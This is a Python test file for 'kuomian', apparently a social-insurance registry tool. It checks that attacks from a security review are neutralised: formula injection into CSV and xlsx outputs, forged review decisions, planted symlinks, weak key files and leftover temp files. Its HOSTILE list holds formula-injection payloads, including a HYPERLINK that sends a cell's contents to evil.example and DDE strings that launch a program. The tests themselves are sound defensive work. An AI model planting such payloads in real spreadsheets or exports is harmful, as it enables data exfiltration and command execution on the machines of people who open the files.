"""The trust boundary (outputs.md, "Outputs opened in spreadsheets, and who may change what").

Each test is an attack from the adversarial review of issue 12, and checks that it no longer works:
formulas from data reaching spreadsheets, forged review decisions, cross-street survey files,
``--force`` over what is not a kuomian output, weak key files, lost updates, leftovers with IDs.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from kuomian.cli import app
from kuomian.commands.run import refresh
from kuomian.core import fileio
from kuomian.core.cells import CUT_MARK, MAX_CELL, write_people_csv
from kuomian.core.fileio import check_output_target, clean_leftovers, output_lock, write_atomically
from tests.conftest import ZHANG, assert_no_full_id, make_id, write_tiny_sources

runner = CliRunner()
AS_OF = date(2026, 3, 1)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"社区")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
LIANRAN, JINFANG = "530181001000", "530181002000"
CHEN = make_id("53018119800303006")  # 陈静, 金方街道 (unenrolled)
QIAN = make_id("53018119810404007")  # 钱进, 金方街道 (unenrolled)


def cli(*args) -> object:
    return runner.invoke(app, ["-q", *map(str, args)])


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def csv_rows(p: Path) -> list[list[str]]:
    with open(p, encoding="utf-8-sig", newline="") as fh:  # newline="": a CR inside a cell stays a CR
        return list(csv.reader(fh))


def formula_cells(out: Path) -> list[tuple[str, str]]:
    """Every CSV cell under ``out`` that a spreadsheet would evaluate (text starting with a trigger)."""
    bad = []
    for p in sorted(out.rglob("*.csv")):
        for row in csv_rows(p):
            bad += [(p.name, c) for c in row if c.startswith(TRIGGERS) and not is_number(c)]
    return bad


def xlsx_formulas(out: Path) -> list[str]:
    """Workbooks under ``out`` with a formula cell (``<f>``) or a text cell not written as a string."""
    bad = []
    for p in sorted(out.rglob("*.xlsx")):
        with zipfile.ZipFile(p) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        if "<f>" in sheet or re.search(r'<c [^>]*t="(?:str|e)"', sheet):
            bad.append(p.name)
    return bad


def two_street_sources(folder: Path, *, address: str = "安宁市连然街道金湖社区1号") -> Path:
    """The tiny sources plus two unenrolled people in 金方街道."""
    write_tiny_sources(folder)
    p = folder / "户籍人口_连然街道.csv"
    quoted = '"' + address.replace('"', '""') + '"'
    text = p.read_text("utf-8").replace("安宁市连然街道金湖社区1号,\n", f"{quoted},\n", 1)
    text += (
        f"{CHEN},陈静,金方街道,金方社区,女,1980-03-03,农业,安宁市金方街道1号,\n"
        f"{QIAN},钱进,金方街道,金方社区,男,1981-04-04,农业,安宁市金方街道2号,\n"
    )
    p.write_text(text, encoding="utf-8")
    return folder


def publish(src: Path, out: Path, *more) -> Path:
    res = cli("refresh", src, "--out", out, "--as-of", AS_OF.isoformat(), *more)
    assert res.exit_code == 0, res.stderr
    return out


def keys(out: Path) -> dict[str, str]:
    p = pl.read_parquet(out / "persons.parquet")
    return dict(zip(p["id_number"], p["person_key"], strict=True))


def one_line_error(res, *fragments: str, code: int = 1) -> str:
    assert res.exit_code == code, (res.exit_code, res.stdout, res.stderr)
    lines = [ln for ln in res.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    for f in fragments:
        assert f in lines[0], (f, lines[0])
    assert "Traceback" not in res.stderr
    return lines[0]


# ---------------------------------------------------------------- 1. no formulas from data


def test_the_csv_writer_neutralises_every_trigger_keeps_numbers_and_caps_cells(tmp_path):
    long = "长" * (MAX_CELL + 100)
    df = pl.DataFrame({"text": [*HOSTILE, long, "-5", "普通"], "n": list(range(-3, len(HOSTILE) + 0))})
    write_people_csv(tmp_path / "x.csv", df)
    rows = csv_rows(tmp_path / "x.csv")[1:]
    cells = [r[0] for r in rows]
    for raw, cell in zip(HOSTILE, cells, strict=False):
        assert cell == "'" + raw
    assert len(cells[len(HOSTILE)]) == MAX_CELL and cells[len(HOSTILE)].endswith(CUT_MARK)
    assert cells[-2] == "'-5", "a text cell that looks like a formula is text, whatever it holds"
    assert cells[-1] == "普通"
    assert [int(r[1]) for r in rows] == df["n"].to_list(), "number columns stay numbers (no quote)"


def test_hostile_cells_of_an_extract_reach_no_output_as_formulas_and_ids_in_text_are_masked(tmp_path):
    hostile_address = HOSTILE[0] + f" 身份证{CHEN}"
    src = two_street_sources(tmp_path / "src", address=hostile_address)
    p = src / "户籍人口_连然街道.csv"
    p.write_text(p.read_text("utf-8").replace("金湖社区,男,1990", "@SUM(1+1),男,1990"), encoding="utf-8")
    out = publish(src, tmp_path / "out")
    assert formula_cells(out) == []
    assert xlsx_formulas(out) == []
    (handoff,) = (out / "handoff").glob(f"{LIANRAN}_*.csv")
    header, *rows = csv_rows(handoff)
    zhang = next(r for r in rows if r[header.index("姓名")] == "张伟")
    assert zhang[header.index("社区")] == "'@SUM(1+1)"
    assert zhang[header.index("户籍地址")] == "'" + HOSTILE[0] + f" 身份证{CHEN[:6]}********{CHEN[-4:]}", (
        "the formula is text, and the ID typed into the address is masked like the 身份证号 column"
    )
    assert_no_full_id(handoff.read_text("utf-8-sig"))
    wb = openpyxl.load_workbook(handoff.with_suffix(".xlsx"))
    cells = [c.value for row in wb.worksheets[0].iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in cells), "xlsx: the text, as text"
    assert_no_full_id(" ".join(str(v) for v in cells if v is not None))


def test_check_and_compare_results_carry_no_formula(tmp_path):
    src = write_tiny_sources(tmp_path / "src")
    out = publish(src, tmp_path / "out")
    lst = tmp_path / "名单.csv"
    lst.write_text(f"姓名,身份证号,备注\n张伟,{ZHANG},{HOSTILE[2]}\n=1+2,,@x\n", encoding="utf-8")
    res = cli("check", lst, "--registry", out, "--out", tmp_path / "result.csv")
    assert res.exit_code == 0, res.stderr
    rows = csv_rows(tmp_path / "result.csv")
    cells = [c for r in rows for c in r]
    assert "'" + HOSTILE[2] in cells and "'=1+2" in cells and "'@x" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert ZHANG in cells, "check gives the office its own list back (IDs included)"
    res = cli("check", lst, "--registry", out, "--out", tmp_path / "result.xlsx")
    assert res.exit_code == 0, res.stderr
    assert xlsx_formulas(tmp_path) == []
    res = cli("compare", out, out, "--out", tmp_path / "diff")
    assert res.exit_code == 0, res.stderr
    assert formula_cells(tmp_path / "diff") == []


hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.tuples(st.sampled_from(TRIGGERS), st.text(alphabet="=+-@()!|'A1社区 ", max_size=12)).map("".join),
)


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    phases=[Phase.explicit, Phase.reuse, Phase.generate],  # a refresh per example: no slow shrinking
)
@given(
    name=hostile_text, community=hostile_text, address=hostile_text, kind=hostile_text, street=hostile_text
)
def test_no_refresh_output_cell_starts_with_a_formula_trigger(
    tmp_path_factory, name, community, address, kind, street
):
    """Generated data, hostile strings in every free-text field: no text cell of any output is a formula."""
    root = tmp_path_factory.mktemp("hostile")
    src = root / "src"
    src.mkdir()

    def q(v: str) -> str:
        return '"' + v.replace('"', '""') + '"'

    (src / "户籍人口_连然街道.csv").write_text(
        "公民身份号码,姓名,街道,社区,性别,出生日期,户口性质,住址,人员状态\n"
        f"{ZHANG},{q('张' + name)},连然街道,{q(community)},男,1990-01-07,农业,{q(address)},\n"
        f"{CHEN},陈静,{q(street)},{q(community)},女,1980-03-03,{q(kind)},{q(address)},\n"
        f"{QIAN},{q(name)},金方街道,金方社区,男,1981-04-04,农业,{q(address + QIAN)},\n",
        encoding="utf-8",
    )
    (src / "参保信息.csv").write_text(
        f"身份证号,姓名,险种,参保状态\n{QIAN},{q(name)},{q(kind)},{q(community)}\n", encoding="utf-8-sig"
    )
    (src / "个税.csv").write_text(  # the employer reaches employers.csv (张伟 is in the registry)
        f"身份证号,姓名,年收入,扣缴月数,扣缴义务人\n{ZHANG},{q('张' + name)},60000,8,{q(kind + '有限公司')}\n",
        encoding="utf-8",
    )
    out = root / "out"
    refresh(src, out, as_of=AS_OF)
    employers = csv_rows(out / "employers.csv")
    assert len(employers) == 2 and employers[1][0].endswith("有限公司"), "the hostile employer was written"
    assert formula_cells(out) == []
    assert xlsx_formulas(out) == []
    for p in (out / "handoff").glob("*.csv"):
        assert_no_full_id(p.read_text("utf-8-sig"))


# ---------------------------------------------------------------- 2. review decisions are checked


from tests.test_link_golden import read_review, write_sources  # noqa: E402
from tests.test_review_roundtrip import (  # noqa: E402
    DECISION,
    FENG_JUAN,
    KEY,
    YES,
    ZHANG_JINFANG,
    fill_in,
    link_of,
)


def _review_sheet(xlsx: Path):
    wb = openpyxl.load_workbook(xlsx)
    ws = wb.worksheets[0]
    return wb, ws, {c.value: i + 1 for i, c in enumerate(ws[1])}


def test_forged_made_up_and_formula_decisions_are_rejected_with_their_rows(tmp_path):
    sources = write_sources(tmp_path / "sources")
    out1 = tmp_path / "out1"
    refresh(sources, out1, as_of=AS_OF)
    key_of = keys(out1)
    victim = key_of[FENG_JUAN]  # any registry person's key, not a candidate of the YES row
    wb, ws, col = _review_sheet(out1 / "review.xlsx")
    yes_line = next(
        r for r in range(2, ws.max_row + 1)
        if (ws.cell(r, col["文件"]).value, int(ws.cell(r, col["行号"]).value)) == YES
    )  # fmt: skip
    ws.cell(yes_line, col[KEY]).value = victim  # the forged candidate
    ws.cell(yes_line, col[DECISION]).value = "是"
    made_up = ws.max_row + 1
    ws.cell(made_up, col["复核编号"]).value = "FAAAAAAAAAAAAAAAAAAAA"
    ws.cell(made_up, col[KEY]).value = victim
    ws.cell(made_up, col[DECISION]).value = "是"
    formula = ws.max_row + 1
    ws.cell(formula, col["复核编号"]).value = ws.cell(yes_line, col["复核编号"]).value
    ws.cell(formula, col[KEY]).value = '=HYPERLINK("http://x","P")'
    ws.cell(formula, col[DECISION]).value = "是"
    wb.save(out1 / "review.xlsx")

    res = cli("review", "import", out1 / "review.xlsx", "--registry", out1)
    assert res.exit_code == 1, res.stderr  # rows rejected: exit 1 (issue 21), the good ones stored
    for line in (yes_line, made_up):
        assert f"row {line}: 复核编号 and 候选人编号 are not a pair this review offered" in res.stdout
    assert f"row {formula}: " in res.stdout  # a formula cell is no 候选人编号 (read as its value: none)
    assert "rejected 3" in res.stdout and "stored 0 decisions" in res.stdout

    out2 = tmp_path / "out2"
    refresh(sources, out2, as_of=AS_OF, previous=out1)
    link = link_of(out2, YES)
    assert link["person_key"] != victim and link["match_rule"] != "review_decision", link
    assert (
        pl.read_parquet(out2 / "links.parquet").filter(pl.col("match_rule") == "review_decision").is_empty()
    )


def test_decisions_are_kept_per_registry_and_only_while_the_name_agrees(tmp_path, isolated_state):
    sources = write_sources(tmp_path / "sources")
    out1 = tmp_path / "out1"
    refresh(sources, out1, as_of=AS_OF)
    fill_in(out1 / "review.xlsx", {(*YES, keys(out1)[ZHANG_JINFANG]): "是"})
    res = cli("review", "import", out1 / "review.xlsx", "--registry", out1)
    assert res.exit_code == 0 and "stored 1 decisions" in res.stdout, res.stdout
    assert (out1 / "state" / "review_decisions.parquet").exists()
    assert not list(isolated_state.rglob("review_decisions*")), "nothing machine-wide"
    # an older version's machine-wide file is not applied, and the refresh says so
    shutil.copy(out1 / "state" / "review_decisions.parquet", isolated_state / "review_decisions.parquet")
    said = []
    refresh(sources, tmp_path / "other", as_of=AS_OF, progress=said.append)
    assert any("no longer used" in m for m in said)

    # another registry on the same machine is not changed by out1's decisions
    other = tmp_path / "other"
    assert link_of(other, YES)["outcome"] == "review"

    # following out1: honoured
    out2 = tmp_path / "out2"
    refresh(sources, out2, as_of=AS_OF, previous=out1)
    assert link_of(out2, YES)["match_rule"] == "review_decision"

    # the candidate's name changes in the extracts: the 是 no longer applies
    hh = sources / "户籍人口.csv"
    lines = hh.read_text("utf-8").splitlines(keepends=True)
    hh.write_text(
        "".join(ln.replace("张伟", "张卫国") if ZHANG_JINFANG in ln else ln for ln in lines), encoding="utf-8"
    )
    out3 = tmp_path / "out3"
    refresh(sources, out3, as_of=AS_OF, previous=out2)
    assert link_of(out3, YES)["match_rule"] != "review_decision"


# ---------------------------------------------------------------- 3. a street's file changes that street


def _handoff(out: Path, street: str) -> tuple[list[str], list[list[str]]]:
    (p,) = (out / "handoff").glob(f"{street}_*.csv")
    rows = csv_rows(p)
    return rows[0], rows[1:]


def _write(path: Path, header, rows) -> Path:
    buf = io.StringIO()
    csv.writer(buf).writerows([header, *rows])
    path.write_text(buf.getvalue(), encoding="utf-8-sig")
    return path


def _answers(out: Path, key: str) -> dict:
    p = pl.read_parquet(out / "persons.parquet").filter(pl.col("person_key") == key)
    return p.select("ability_to_pay", "willingness").row(0, named=True)


def test_a_street_file_cannot_change_another_streets_people(tmp_path):
    out = publish(two_street_sources(tmp_path / "src"), tmp_path / "out")
    header, lianran = _handoff(out, LIANRAN)
    _, jinfang = _handoff(out, JINFANG)
    intruder = list(jinfang[0])  # a 金方 person's row, pasted into 连然's file
    intruder[header.index("缴费能力")] = "无缴费能力"
    own = list(lianran[0])
    own[header.index("缴费能力")] = "有缴费能力"
    f = _write(tmp_path / f"{LIANRAN}_连然街道.csv", header, [own, intruder])
    res = cli("survey", "import", f, "--registry", out)
    assert res.exit_code == 1 and "1 of another street" in res.stderr, res.stderr  # a script can tell
    assert f"not written {f.name} row 3" in res.stdout and "another street" in res.stdout
    assert _answers(out, intruder[0])["ability_to_pay"] is None
    assert _answers(out, own[0])["ability_to_pay"] == "有缴费能力"
    # a file whose name names no street is refused outright
    anon = _write(tmp_path / "已填.csv", header, [intruder])
    one_line_error(
        cli("survey", "import", anon, "--registry", out), "does not say which street", "--any-street"
    )
    # the bureau may override
    res = cli("survey", "import", f, "--registry", out, "--any-street")
    assert res.exit_code == 0 and _answers(out, intruder[0])["ability_to_pay"] == "无缴费能力"


def test_two_different_answers_for_one_person_are_a_conflict_not_a_merge(tmp_path):
    out = publish(two_street_sources(tmp_path / "src"), tmp_path / "out")
    header, rows = _handoff(out, JINFANG)
    a, b = list(rows[0]), list(rows[0])
    a[header.index("缴费能力")] = "有缴费能力"
    b[header.index("参保意愿")] = "暂不愿意参保"
    ok = list(rows[1])
    ok[header.index("缴费能力")] = "缴费能力一般"
    f = _write(tmp_path / "金方街道_已填.csv", header, [a, ok, b])
    res = cli("survey", "import", f, "--registry", out)
    assert res.exit_code == 1 and "1 in conflict" in res.stderr, res.stderr
    assert f"conflict {f.name} row 2 and {f.name} row 4" in res.stdout
    assert _answers(out, a[0]) == {"ability_to_pay": None, "willingness": None}, "neither row applied"
    assert _answers(out, ok[0])["ability_to_pay"] == "缴费能力一般"


# ---------------------------------------------------------------- 4. --force replaces only a kuomian output


def _digest(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_force_refuses_the_sources_a_link_home_and_foreign_folders(tmp_path, monkeypatch):
    src = write_tiny_sources(tmp_path / "src")
    before = _digest(src)
    one_line_error(cli("refresh", src, "--out", src, "--force"), "input folder")
    one_line_error(cli("refresh", src, "--out", src / "inside", "--force"), "input folder")
    one_line_error(cli("refresh", src, "--out", tmp_path, "--force"), "input folder")  # holds SOURCES_DIR
    assert _digest(src) == before

    target = publish(src, tmp_path / "real")
    (tmp_path / "link").symlink_to(target)
    kept = _digest(target)
    one_line_error(cli("refresh", src, "--out", tmp_path / "link", "--force"), "symbolic link")
    assert _digest(target) == kept

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "年度报告.docx").write_bytes(b"not ours")
    one_line_error(cli("refresh", src, "--out", docs, "--force"), "not a folder kuomian published")
    one_line_error(cli("demo", "--people", "500", "--out", docs, "--force"), "not a folder kuomian published")
    one_line_error(cli("demo", "--people", "500", "--out", tmp_path / "link", "--force"), "symbolic link")
    assert (docs / "年度报告.docx").read_bytes() == b"not ours" and _digest(target) == kept

    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    one_line_error(cli("refresh", src, "--out", home, "--force"), "root or your home folder")
    with pytest.raises(Exception, match="root or your home folder"):
        check_output_target(Path("/"), force=True)
    assert not (tmp_path / ".home.lock").exists() and not Path("/..lock").exists()
    # a kuomian output is still replaced
    assert cli("refresh", src, "--out", target, "--force", "--as-of", "2026-03-01").exit_code == 0


def test_planted_leftovers_beside_out_dir_are_not_trusted(tmp_path):
    src = write_tiny_sources(tmp_path / "src")
    out = tmp_path / "out"
    # a planted "old copy" (a link to a folder that looks like ours) is never restored or followed
    decoy = publish(src, tmp_path / "decoy")
    kept = _digest(decoy)
    (tmp_path / ".out.old-1").symlink_to(decoy)
    foreign = tmp_path / ".out.old-2"
    shutil.copytree(decoy, foreign)
    os.chown(foreign, 54321, 54321)  # another user's
    clean_leftovers(out)
    assert not out.exists(), "nothing planted is restored as OUT_DIR"
    assert _digest(decoy) == kept and foreign.is_dir()
    # a planted lock link is not followed
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", "utf-8")
    (tmp_path / ".out.lock").symlink_to(victim)
    one_line_error(cli("refresh", src, "--out", out), ".out.lock", "link or belongs to another user")
    assert victim.read_text("utf-8") == "keep me" and not out.exists()


# ---------------------------------------------------------------- 5. the key


@pytest.mark.parametrize(
    ("content", "mode", "owner", "expect"),
    [
        (b"", 0o600, None, "is empty"),
        (b"ab\n", 0o600, None, "holds 1 bytes, fewer than 32"),
        (b"not a key at all, not hex\n", 0o600, None, "not a hexadecimal key"),
        (b"ab" * 32 + b"\n", 0o644, None, "chmod 600"),
        (b"ab" * 32 + b"\n", 0o600, 54321, "belongs to another user"),
    ],
)
def test_weak_key_files_are_refused_with_how_to_fix(tmp_path, monkeypatch, content, mode, owner, expect):
    key = tmp_path / "key.secret"
    key.write_bytes(content)
    key.chmod(mode)
    if owner is not None:
        os.chown(key, owner, owner)
    monkeypatch.setenv("KUOMIAN_KEY_FILE", str(key))
    res = cli("refresh", write_tiny_sources(tmp_path / "src"), "--out", tmp_path / "out")
    one_line_error(res, str(key), expect, code=1)
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- 7. lost updates


def test_unique_temp_names_two_writers_never_collide(tmp_path):
    target = tmp_path / "decisions.parquet"
    errors = []

    def writer(tag: bytes):
        try:
            for _ in range(40):
                write_atomically(target, lambda fh: fh.write(tag * 1000))
        except Exception as e:  # noqa: BLE001 - the old fixed temp name failed here
            errors.append(e)

    threads = [threading.Thread(target=writer, args=(t,)) for t in (b"a", b"b")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert target.read_bytes() in (b"a" * 1000, b"b" * 1000)
    assert [p.name for p in tmp_path.iterdir()] == [target.name], "no temp file left"


def test_imports_wait_for_the_folder_lock_and_keep_each_others_decisions(tmp_path, monkeypatch):
    monkeypatch.setattr(fileio, "IMPORT_WAIT", 0.3)
    sources = write_sources(tmp_path / "sources")
    out = tmp_path / "out"
    refresh(sources, out, as_of=AS_OF)
    lines = {(r["文件"], int(r["行号"]), r[KEY]) for r in read_review(out / "review.xlsx")}
    first, second = sorted(lines)[:2]
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    shutil.copy(out / "review.xlsx", a)
    shutil.copy(out / "review.xlsx", b)
    fill_in(a, {first: "否"})
    fill_in(b, {second: "否"})
    with output_lock(out):  # a refresh or another import holds the folder
        one_line_error(cli("review", "import", a, "--registry", out), "using this folder right now", code=4)
    assert not (out / "state" / "review_decisions.parquet").exists()
    assert cli("review", "import", a, "--registry", out).exit_code == 0
    res = cli("review", "import", b, "--registry", out)
    assert "stored 2 decisions" in res.stdout, res.stdout


def test_a_refresh_locks_its_previous_folder_and_force_keeps_imported_answers(tmp_path, monkeypatch):
    monkeypatch.setattr(fileio, "IMPORT_WAIT", 0.3)
    src = two_street_sources(tmp_path / "src")
    prev = publish(src, tmp_path / "prev")
    header, rows = _handoff(prev, JINFANG)
    row = list(rows[0])
    row[header.index("缴费能力")] = "有缴费能力"
    f = _write(tmp_path / "金方街道_已填.csv", header, [row])
    with output_lock(prev):  # an import into PREV is running: the refresh does not read half of it
        res = cli("refresh", src, "--out", tmp_path / "new", "--previous", prev)
        one_line_error(res, str(prev), "another kuomian command", code=4)
    assert cli("survey", "import", f, "--registry", prev).exit_code == 0

    # refresh --force in place would drop the imported answer: refused, then carried with --previous
    before = _digest(prev)
    res = cli("refresh", src, "--out", prev, "--force")
    one_line_error(res, "survey answers for 1 persons", f"--previous {prev}")
    assert _digest(prev) == before
    publish(src, prev, "--force", "--previous", prev)
    assert _answers(prev, row[0])["ability_to_pay"] == "有缴费能力"
    # answers that came from --previous (none imported since) are no reason to refuse
    new = publish(src, tmp_path / "new", "--previous", prev)
    publish(src, new, "--force", "--previous", prev)
    assert _answers(new, row[0])["ability_to_pay"] == "有缴费能力"


# ---------------------------------------------------------------- 8. leftovers


HOLD = """
import os, sys, time
from kuomian.core.fileio import private_workdir
with private_workdir("check") as d:
    (d / "spill.duckdb").write_text("530181199001070035", "utf-8")
    print(d, flush=True)
    time.sleep(600)
"""


def test_a_killed_commands_private_folder_is_removed_by_any_later_command(tmp_path, isolated_state):
    env = {**os.environ, "KUOMIAN_STATE": str(isolated_state)}
    proc = subprocess.Popen([sys.executable, "-c", HOLD], stdout=subprocess.PIPE, text=True, env=env)
    folder = Path(proc.stdout.readline().strip())
    assert folder.is_dir() and folder.is_relative_to(isolated_state)
    assert folder.stat().st_mode & 0o777 == 0o700
    assert cli("clean").exit_code == 0 and folder.is_dir(), "a live run's folder is never removed"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(30)
    assert folder.is_dir(), "killed: the folder is left (with IDs) until the next command"
    res = cli("validate", write_tiny_sources(tmp_path / "src"))
    assert res.exit_code == 0, res.stderr
    assert not folder.exists(), "any later command removes it"
    assert not list((isolated_state / "runs").iterdir())


HOLD_STAGING = """
import sys, time
from pathlib import Path
from kuomian.core.fileio import staging
with staging(Path(sys.argv[1])) as d:
    print(d, flush=True)
    time.sleep(600)
"""


def test_kuomian_clean_removes_a_killed_refreshs_staging(tmp_path, isolated_state):
    env = {**os.environ, "KUOMIAN_STATE": str(isolated_state)}
    cmd = [sys.executable, "-c", HOLD_STAGING, str(tmp_path / "out")]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True, env=env)
    folder = Path(proc.stdout.readline().strip())
    assert folder.name.startswith(".out.staging-") and folder.is_dir()
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(30)
    res = runner.invoke(app, ["clean"])
    assert res.exit_code == 0 and "removed 1 leftover" in res.stdout, res.stdout
    assert not folder.exists()
    assert list((isolated_state / "runs").iterdir()) == [], "the run's record goes with it"


# ---------------------------------------------------------------- the import path is not POSIX-only

NO_POSIX = """
import importlib, pkgutil, sys
for name in ("fcntl", "pwd", "grp", "termios"):
    sys.modules[name] = None  # as on Windows: importing them fails
import kuomian
names = [m.name for m in pkgutil.walk_packages(kuomian.__path__, "kuomian.")]
for n in names:
    importlib.import_module(n)
import filelock
lock = filelock.FileLock(sys.argv[1], timeout=0)
print(len(names), type(lock).__name__)
"""


def test_every_module_imports_without_posix_only_modules(tmp_path):
    """Bureau desktops run Windows: no module of the tool may need fcntl, pwd or grp to import."""
    res = subprocess.run(
        [sys.executable, "-c", NO_POSIX, str(tmp_path / "x.lock")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert res.returncode == 0, res.stderr[-2000:]
    assert int(res.stdout.split()[0]) > 30, res.stdout


def test_review_xlsx_masks_an_id_typed_into_a_text_cell_and_writes_formulas_as_text(tmp_path):
    sources = write_sources(tmp_path / "sources")
    p = sources / "平台从业人员.csv"
    lines = p.read_text("utf-8").splitlines(keepends=True)
    assert lines[5].startswith(",张伟,1992-03-15,,,")  # row 6: a review row (two 张伟 candidates)
    lines[5] = lines[5].replace(",张伟,1992-03-15,,,", f',张伟,1992-03-15,,"=HYPERLINK(1) {CHEN}",', 1)
    p.write_text("".join(lines), encoding="utf-8")
    out = tmp_path / "out"
    refresh(sources, out, as_of=AS_OF)
    rows = [r for r in read_review(out / "review.xlsx") if (r["文件"], int(r["行号"])) == YES]
    assert rows, "row 6 is still a review row"
    for r in rows:
        assert r["记录社区"] == f"=HYPERLINK(1) {CHEN[:6]}********{CHEN[-4:]}", r["记录社区"]
    assert xlsx_formulas(out) == []
    with zipfile.ZipFile(out / "review.xlsx") as z:
        assert_no_full_id(z.read("xl/worksheets/sheet1.xml").decode("utf-8"))
